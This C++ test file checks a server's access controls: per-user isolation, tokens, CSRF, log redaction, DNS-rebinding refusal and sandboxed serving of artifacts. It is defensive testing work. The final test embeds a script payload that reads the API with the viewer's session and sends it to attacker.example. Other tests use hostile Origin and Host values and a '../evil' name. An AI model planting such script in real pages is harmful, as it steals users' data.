// Who may do what: tokens, browser sessions with their CSRF check, users who see only their
// own conversations (another user's id is as unknown as a missing one, on every route that
// takes one), tokens removed while the server runs, and a server without tokens that answers
// only on loopback.
#include <gtest/gtest.h>

#include <sstream>
#include <thread>

#include "api_environment.h"
#include "common/file_util.h"
#include "common/sha256.h"
#include "conversation/history_json.h"

namespace quarry::testing {
namespace {

// Every route that takes a conversation or an artifact id, as (method, path, body).
std::vector<std::tuple<std::string, std::string, std::string>> routes_with_ids(
    const std::string& conversation, int64_t artifact) {
  const std::string base = "/api/v1/conversations/" + conversation;
  return {{"GET", base, ""},
          {"DELETE", base, ""},
          {"POST", base + "/messages", R"({"content": "what is in there?"})"},
          {"POST", base + "/cells", R"({"kind": "sql_query", "code": "SELECT 1"})"},
          {"GET", base + "/events?after=1-0", ""},
          {"POST", base + "/cancel", ""},
          {"GET", base + "/artifacts", ""},
          {"GET", fmt::format("/api/v1/artifacts/{}", artifact), ""},
          {"GET", fmt::format("/api/v1/artifacts/{}/table", artifact), ""},
          {"GET", "/api/v1/execs?conversation=" + conversation, ""}};
}

TEST(Access, EachUserSeesOnlyTheirOwn) {
  QuarryServer server({.tokens = true});
  ASSERT_TRUE(server.started());
  ApiClient alice(server.url()), bob(server.url());
  alice.use_token(server.token("alice"));
  bob.use_token(server.token("bob"));
  ASSERT_EQ(alice.get("/api/v1/session").json["user"], server.user("alice"));

  const auto id = alice.create_conversation("alice's");
  auto cell =
      alice.cell(id, "python", "open('/home/sandbox/outputs/secret.csv', 'w').write('a\\n1\\n')");
  auto artifacts = of_type(cell.events, "artifact");
  ASSERT_EQ(artifacts.size(), 1u);
  const int64_t artifact = artifacts[0].data["artifact"]["id"];
  const auto bobs = bob.create_conversation("bob's");

  // For bob, alice's conversation and artifact do not exist: the same answer as for ids that
  // exist for no one. Nothing of them changes.
  const auto theirs = routes_with_ids(id, artifact);
  const auto no_ones = routes_with_ids("0123456789ab", 99999999);
  for (size_t i = 0; i < theirs.size(); ++i) {
    const auto& [method, path, body] = theirs[i];
    SCOPED_TRACE(method + " " + path);
    std::vector<HttpHeader> headers;
    if (!body.empty()) headers.push_back({"Content-Type", "application/json"});
    auto refused = bob.send(method, path, body, headers);
    EXPECT_EQ(refused.status, 404) << refused.body;
    EXPECT_EQ(refused.json["error"]["code"], "not_found");
    auto unknown = bob.send(method, std::get<1>(no_ones[i]), body, headers);
    EXPECT_EQ(unknown.status, 404);
    EXPECT_EQ(unknown.json["error"]["code"], "not_found");
  }
  EXPECT_EQ(alice.get("/api/v1/conversations/" + id).status, 200);
  EXPECT_EQ(alice.get(fmt::format("/api/v1/artifacts/{}", artifact)).status, 200);

  // Lists and metering are per user; the load overview counts everyone's sandboxes.
  auto listed = bob.get("/api/v1/conversations");
  ASSERT_EQ(listed.json["conversations"].size(), 1u);
  EXPECT_EQ(listed.json["conversations"][0]["id"], bobs);
  EXPECT_EQ(bob.get("/api/v1/execs").json["totals"]["steps"], 0);
  EXPECT_EQ(alice.get("/api/v1/execs").json["totals"]["steps"], 1);
  auto sandboxes = bob.get("/api/v1/sandboxes");
  EXPECT_TRUE(sandboxes.json["sandboxes"].empty());
  EXPECT_EQ(sandboxes.json["all_by_state"].value("idle", 0), 1);
  EXPECT_EQ(alice.get("/api/v1/sandboxes").json["sandboxes"].size(), 1u);
  EXPECT_EQ(server.stop(SIGTERM), 0);
}

TEST(Access, WithoutAValidTokenOnlyThePublicRoutesAnswer) {
  QuarryServer server({.tokens = true});
  ASSERT_TRUE(server.started());
  ApiClient anyone(server.url());
  for (const char* path : {"/healthz", "/readyz", "/api/openapi.json", "/"}) {
    EXPECT_EQ(anyone.get(path).status, 200) << path;
  }
  for (const char* path : {"/api/v1/conversations", "/api/v1/info", "/api/v1/execs",
                           "/api/v1/sandboxes", "/api/v1/session"}) {
    SCOPED_TRACE(path);
    auto refused = anyone.get(path);
    EXPECT_EQ(refused.status, 401);
    EXPECT_EQ(refused.json["error"]["code"], "unauthorized");
    EXPECT_EQ(refused.header("WWW-Authenticate"), "Bearer realm=\"quarry\"");
  }
  auto wrong = anyone.get("/api/v1/conversations", {{"Authorization", "Bearer qry_not_a_token"}});
  EXPECT_EQ(wrong.status, 401);
  auto basic = anyone.get("/api/v1/conversations", {{"Authorization", "Basic YWxpY2U6eA=="}});
  EXPECT_EQ(basic.status, 401);
  EXPECT_NE(basic.json["error"]["message"].get<std::string>().find("Bearer"), std::string::npos);

  // A token removed while the server runs stops working at once.
  ApiClient bob(server.url());
  bob.use_token(server.token("bob"));
  ASSERT_EQ(bob.get("/api/v1/conversations").status, 200);
  std::string output;
  ASSERT_EQ(server.quarry({"token", "rm", server.user("bob")}, &output), 0) << output;
  EXPECT_EQ(bob.get("/api/v1/conversations").status, 401);
  ApiClient alice(server.url());
  alice.use_token(server.token("alice"));
  EXPECT_EQ(alice.get("/api/v1/conversations").status, 200);
  EXPECT_EQ(server.stop(SIGTERM), 0);
}

// The access log's lines (one JSON object a request) among the server's other messages.
std::vector<nlohmann::json> access_lines(const QuarryServer& server) {
  std::vector<nlohmann::json> lines;
  std::istringstream log(server.log());
  for (std::string line; std::getline(log, line);) {
    auto parsed = nlohmann::json::parse(line, nullptr, false);
    if (parsed.is_object() && parsed.contains("method") && parsed.contains("status")) {
      lines.push_back(std::move(parsed));
    }
  }
  return lines;
}

TEST(Access, TheAccessLogSaysWhatWasAskedAndByWhomButNeverASecret) {
  QuarryServer server({.tokens = true});
  ASSERT_TRUE(server.started());
  const std::string token = server.token("alice");
  const std::string alice = server.user("alice");
  ApiClient scripts(server.url());
  scripts.use_token(token);
  const size_t before = access_lines(server).size();

  // A script with its Bearer token.
  auto listed = scripts.get("/api/v1/conversations?limit=1");
  ASSERT_EQ(listed.status, 200);
  // The token pasted into a query string, under the names such secrets go by, and as a name.
  const std::string pasted = fmt::format(
      "/api/v1/conversations?limit=2&token={0}&access_token={0}&Access_Token={0}&apikey={0}"
      "&sig={0}&{0}",
      token);
  auto refused = scripts.get(pasted);
  EXPECT_EQ(refused.status, 400);
  EXPECT_EQ(refused.json["error"]["code"], "unknown_parameter");
  // A browser: signs in with the token, then reads and changes with its session cookie.
  ApiClient browser(server.url());
  auto signed_in = browser.post("/api/v1/session", {{"token", token}});
  ASSERT_EQ(signed_in.status, 201);
  const std::string cookie =
      signed_in.header("Set-Cookie").substr(0, signed_in.header("Set-Cookie").find(';'));
  const std::string session = cookie.substr(cookie.find('=') + 1);
  const std::string csrf = signed_in.json["csrf_token"];
  ASSERT_GE(session.size(), 32u);
  browser.use_cookie(cookie, csrf);
  EXPECT_EQ(browser.post("/api/v1/conversations", {{"title", "from the page"}}).status, 201);
  EXPECT_EQ(browser.get(fmt::format("/api/v1/conversations?session={}", session)).status, 400);
  // Someone with a wrong token.
  ApiClient stranger(server.url());
  stranger.use_token("qry_wrongwrongwrong");
  EXPECT_EQ(stranger.get("/api/v1/conversations").status, 401);

  // Each request is a line: when, what, how it ended, how much, how long, and who.
  std::vector<nlohmann::json> lines;
  for (int i = 0; i < 50 && lines.size() < before + 6; ++i) {
    if (i > 0) std::this_thread::sleep_for(std::chrono::milliseconds(20));
    lines = access_lines(server);
  }
  ASSERT_EQ(lines.size(), before + 6) << server.log();
  lines.erase(lines.begin(), lines.begin() + static_cast<std::ptrdiff_t>(before));
  for (const auto& line : lines) {
    SCOPED_TRACE(line.dump());
    for (const char* field : {"time", "method", "path", "status", "bytes", "duration_ms", "user"}) {
      EXPECT_TRUE(line.contains(field)) << field;
    }
    EXPECT_TRUE(line["time"].is_string() && line["time"].get<std::string>().ends_with("Z"));
    EXPECT_TRUE(line["bytes"].is_number_unsigned() && line["bytes"].get<uint64_t>() > 0);
    EXPECT_TRUE(line["duration_ms"].is_number() && line["duration_ms"].get<double>() >= 0 &&
                line["duration_ms"].get<double>() < 10000);
    EXPECT_EQ(line["path"].get<std::string>().find('?'), std::string::npos);
  }
  EXPECT_EQ(lines[0]["method"], "GET");
  EXPECT_EQ(lines[0]["path"], "/api/v1/conversations");
  EXPECT_EQ(lines[0]["status"], 200);
  EXPECT_EQ(lines[0]["user"], alice);
  EXPECT_EQ(lines[0]["query"], "limit=1");
  // The whole answer, its headers with it.
  EXPECT_GT(lines[0]["bytes"].get<uint64_t>(), listed.body.size());
  EXPECT_LT(lines[0]["bytes"].get<uint64_t>(), listed.body.size() + 1024);
  // The names of what was pasted, never its values (nor a name that is a secret).
  EXPECT_EQ(lines[1]["status"], 400);
  EXPECT_EQ(lines[1]["query"],
            "Access_Token=[redacted]&access_token=[redacted]&apikey=[redacted]&limit=2&"
            "[redacted]=[redacted]&sig=[redacted]&token=[redacted]");
  EXPECT_EQ(lines[2]["method"], "POST");
  EXPECT_EQ(lines[2]["path"], "/api/v1/session");
  EXPECT_EQ(lines[2]["status"], 201);
  EXPECT_EQ(lines[3]["user"], alice);  // known by the cookie
  EXPECT_EQ(lines[3]["status"], 201);
  EXPECT_EQ(lines[4]["query"], "session=[redacted]");
  EXPECT_EQ(lines[5]["status"], 401);
  EXPECT_EQ(lines[5]["user"], "-");

  // Nowhere in what the server wrote: the token, the session, its CSRF token, the wrong token.
  const std::string log = server.log();
  for (const std::string& secret :
       {token, token.substr(4), session, csrf, std::string("wrongwrongwrong")}) {
    EXPECT_EQ(log.find(secret), std::string::npos) << secret << " is in the log:\n" << log;
  }
  EXPECT_EQ(server.stop(SIGTERM), 0);
}

TEST(Access, TokenCommandsNameTheUsersButNeverShowATokenOrItsHash) {
  QuarryServer server({.tokens = true});  // alice and bob made with `quarry token create`
  ASSERT_TRUE(server.started());
  auto file = read_file(server.tokens_file());
  ASSERT_TRUE(file);
  std::vector<std::string> secrets = {server.token("alice"), server.token("bob")};
  for (const auto& entry : nlohmann::json::parse(*file)["tokens"])
    secrets.push_back(entry["sha256"]);
  // The file keeps hashes only.
  EXPECT_EQ(file->find(server.token("alice")), std::string::npos);
  EXPECT_NE(file->find(sha256_hex(server.token("alice"))), std::string::npos);
  auto no_secret = [&](const std::string& output) {
    for (const auto& secret : secrets)
      EXPECT_EQ(output.find(secret), std::string::npos) << output;
  };

  std::string output;
  ASSERT_EQ(server.quarry({"token", "ls"}, &output), 0) << output;
  std::istringstream table(output);
  std::string header, first, second;
  std::getline(table, header);
  std::getline(table, first);
  std::getline(table, second);
  EXPECT_TRUE(header.starts_with("NAME") && header.find("CREATED") != std::string::npos) << output;
  EXPECT_TRUE(first.starts_with(server.user("alice") + " ")) << output;
  EXPECT_TRUE(second.starts_with(server.user("bob") + " ")) << output;
  const std::string year = conversation::format_time(std::chrono::system_clock::now()).substr(0, 4);
  EXPECT_NE(first.find(" " + year + "-"), std::string::npos) << "no creation time: " << first;
  no_secret(output);

  ASSERT_EQ(server.quarry({"token", "ls", "--json"}, &output), 0) << output;
  auto listed = nlohmann::json::parse(output.substr(output.find('[')), nullptr, false);
  ASSERT_TRUE(listed.is_array()) << output;
  ASSERT_EQ(listed.size(), 2u);
  for (const auto& entry : listed) {
    EXPECT_EQ(entry.size(), 2u) << entry.dump();  // name and created_at, nothing else
    EXPECT_TRUE(entry["created_at"].get<std::string>().starts_with(year)) << entry.dump();
  }
  EXPECT_EQ(listed[0]["name"], server.user("alice"));
  no_secret(output);

  // Mistakes get errors that say what to do, and change nothing.
  EXPECT_NE(server.quarry({"token", "create", server.user("alice")}, &output), 0);
  EXPECT_NE(output.find(fmt::format("there is a token named '{}' already", server.user("alice"))),
            std::string::npos)
      << output;
  EXPECT_NE(output.find("quarry token rm"), std::string::npos) << output;
  EXPECT_EQ(output.find("qry_"), std::string::npos) << "a token was made: " << output;
  EXPECT_NE(server.quarry({"token", "rm", "nobody-at-all"}, &output), 0);
  EXPECT_NE(output.find("there is no token named 'nobody-at-all'"), std::string::npos) << output;
  EXPECT_NE(output.find("quarry token ls"), std::string::npos) << output;
  EXPECT_NE(server.quarry({"token", "create", "../evil"}, &output), 0);
  EXPECT_NE(output.find("'../evil' is not a token name"), std::string::npos) << output;
  EXPECT_EQ(read_file(server.tokens_file()).value_or(""), *file);
  ApiClient alice(server.url());
  alice.use_token(server.token("alice"));
  EXPECT_EQ(alice.get("/api/v1/session").status, 200);
  EXPECT_EQ(server.stop(SIGTERM), 0);
}

TEST(Access, ABrowserSessionNeedsItsCsrfTokenForChanges) {
  QuarryServer server({.tokens = true});
  ASSERT_TRUE(server.started());
  ApiClient browser(server.url());
  auto bad = browser.post("/api/v1/session", {{"token", "qry_wrong"}});
  EXPECT_EQ(bad.status, 401);
  EXPECT_EQ(bad.header("WWW-Authenticate"), "Bearer realm=\"quarry\"");  // RFC 9110, 15.5.2
  auto signed_in = browser.post("/api/v1/session", {{"token", server.token("alice")}});
  ASSERT_EQ(signed_in.status, 201) << signed_in.body;
  const std::string cookie_header = signed_in.header("Set-Cookie");
  EXPECT_NE(cookie_header.find("HttpOnly"), std::string::npos);
  EXPECT_NE(cookie_header.find("SameSite=Strict"), std::string::npos);
  EXPECT_NE(cookie_header.find("Path=/"), std::string::npos);
  const std::string cookie = cookie_header.substr(0, cookie_header.find(';'));
  EXPECT_EQ(signed_in.json["user"], server.user("alice"));
  const std::string csrf = signed_in.json["csrf_token"];

  // Reading needs only the cookie; the page learns its CSRF token from the session.
  ApiClient reader(server.url());
  reader.use_cookie(cookie, "");
  auto session = reader.get("/api/v1/session");
  ASSERT_EQ(session.status, 200);
  EXPECT_EQ(session.json["method"], "cookie");
  EXPECT_EQ(session.json["csrf_token"], csrf);
  EXPECT_EQ(reader.get("/api/v1/conversations").status, 200);
  // A change without it is refused, and so is one with a wrong one.
  auto forged = reader.post("/api/v1/conversations", {{"title", "forged"}});
  EXPECT_EQ(forged.status, 403);
  EXPECT_EQ(forged.json["error"]["code"], "csrf_failed");
  auto wrong = reader.post("/api/v1/conversations", {{"title", "forged"}},
                           {{"X-CSRF-Token", std::string(csrf.size(), '0')}});
  EXPECT_EQ(wrong.status, 403);
  EXPECT_TRUE(reader.get("/api/v1/conversations").json["conversations"].empty());

  ApiClient page(server.url());
  page.use_cookie(cookie, csrf);
  EXPECT_EQ(page.post("/api/v1/conversations", {{"title", "from the page"}}).status, 201);
  // Not from another origin, even with the token.
  auto cross =
      page.post("/api/v1/conversations", {{"title", "x"}}, {{"Origin", "http://evil.example"}});
  EXPECT_EQ(cross.status, 403);
  EXPECT_EQ(cross.json["error"]["code"], "cross_origin");
  auto cross_read = page.get("/api/v1/conversations", {{"Origin", "http://evil.example"}});
  EXPECT_EQ(cross_read.status, 403);
  EXPECT_EQ(cross_read.json["error"]["message"],
            "a request from another origin ('http://evil.example') is refused; use the API from "
            "pages this server serves, or from a script without an Origin header");

  // Signing out ends the session.
  EXPECT_EQ(page.del("/api/v1/session").status, 204);
  EXPECT_EQ(reader.get("/api/v1/conversations").status, 401);
  EXPECT_EQ(server.stop(SIGTERM), 0);
}

TEST(Access, WithoutTokensOnlyLoopbackIsServed) {
  {
    QuarryServer server;
    ASSERT_TRUE(server.started());
    ApiClient local(server.url());
    auto info = local.get("/api/v1/info");
    ASSERT_EQ(info.status, 200);
    EXPECT_EQ(info.json["user"], "local");
    EXPECT_EQ(info.json["auth"], "none");
    // A page whose name resolves to 127.0.0.1 (DNS rebinding) is not this machine.
    auto rebound = local.get("/api/v1/conversations", {{"Host", "attacker.example:8080"}});
    EXPECT_EQ(rebound.status, 403);
    EXPECT_EQ(rebound.json["error"]["code"], "host_not_allowed");
    EXPECT_EQ(local.get("/api/v1/conversations", {{"Host", "localhost:1"}}).status, 200);
    auto signin = local.post("/api/v1/session", {{"token", "anything"}});
    EXPECT_EQ(signin.status, 409);
    EXPECT_EQ(signin.json["error"]["code"], "no_tokens");
    EXPECT_EQ(server.stop(SIGTERM), 0);
  }
  // Listening beyond loopback without tokens is refused, saying what to do.
  {
    QuarryServer refused({.listen = "0.0.0.0:0", .expect_start = false});
    EXPECT_FALSE(refused.started());
    EXPECT_NE(refused.log().find("refusing to listen on"), std::string::npos) << refused.log();
    EXPECT_NE(refused.log().find("quarry token create"), std::string::npos);
  }
  // A tokens file named in the configuration but not there (a typo, one not yet made) is not
  // taken for "no tokens": that would serve without sign-in.
  {
    QuarryServer refused(
        {.server_config = "  tokens_file: no-such-tokens.json\n", .expect_start = false});
    EXPECT_FALSE(refused.started());
    EXPECT_NE(refused.log().find("no-such-tokens.json', which does not exist"), std::string::npos)
        << refused.log();
    EXPECT_NE(refused.log().find("quarry token create"), std::string::npos);
  }
  // With tokens it may.
  QuarryServer open({.tokens = true, .listen = "0.0.0.0:0"});
  ASSERT_TRUE(open.started());
  ApiClient alice(open.url());
  alice.use_token(open.token("alice"));
  EXPECT_EQ(alice.get("/api/v1/conversations", {{"Host", "quarry.example:8080"}}).status, 200);
  EXPECT_EQ(open.stop(SIGTERM), 0);
}

TEST(Access, AHostileArtifactIsServedInASandboxOfItsOwn) {
  QuarryServer server;
  ASSERT_TRUE(server.started());
  ApiClient api(server.url());
  const auto id = api.create_conversation();
  // What model code could write to trick a viewer: a page and an SVG that try to read the API
  // with the viewer's session, and a CSV that is really a page.
  auto cell =
      api.cell(id, "python",
               "steal = '<script>fetch(\"/api/v1/conversations\").then(r => r.text())"
               ".then(t => fetch(\"https://attacker.example/?\" + t))</script>'\n"
               "open('/home/sandbox/outputs/chart.html', 'w').write('<html><body>' + steal)\n"
               "open('/home/sandbox/outputs/logo.svg', 'w').write("
               "'<svg xmlns=\"http://www.w3.org/2000/svg\">' + steal + '</svg>')\n"
               "open('/home/sandbox/outputs/table.csv', 'w').write('<html>' + steal)\n");
  auto saved = of_type(cell.events, "artifact");
  ASSERT_EQ(saved.size(), 3u);
  for (const auto& artifact : saved) {
    const std::string type = artifact.data["artifact"]["type"];
    SCOPED_TRACE(type);
    auto served = api.get(artifact.data["artifact"]["url"]);
    ASSERT_EQ(served.status, 200);
    const std::string policy = served.header("Content-Security-Policy");
    // An opaque origin of its own: no cookies, no reading the API, nothing fetched anywhere.
    EXPECT_TRUE(policy.starts_with("sandbox")) << policy;
    EXPECT_EQ(policy.find("allow-same-origin"), std::string::npos);
    EXPECT_NE(policy.find("default-src 'none'"), std::string::npos);
    EXPECT_EQ(policy.find("connect-src"), std::string::npos);  // so default-src 'none' holds
    EXPECT_EQ(served.header("X-Content-Type-Options"), "nosniff");
    // Scripts run only where a chart needs them; a CSV is never a page.
    EXPECT_EQ(policy.find("allow-scripts") != std::string::npos, type != "csv");
    EXPECT_EQ(served.header("Content-Type"), type == "html"  ? "text/html; charset=utf-8"
                                             : type == "svg" ? "image/svg+xml"
                                                             : "text/csv; charset=utf-8");
  }
  EXPECT_EQ(server.stop(SIGTERM), 0);
}

}  // namespace
}  // namespace quarry::testing
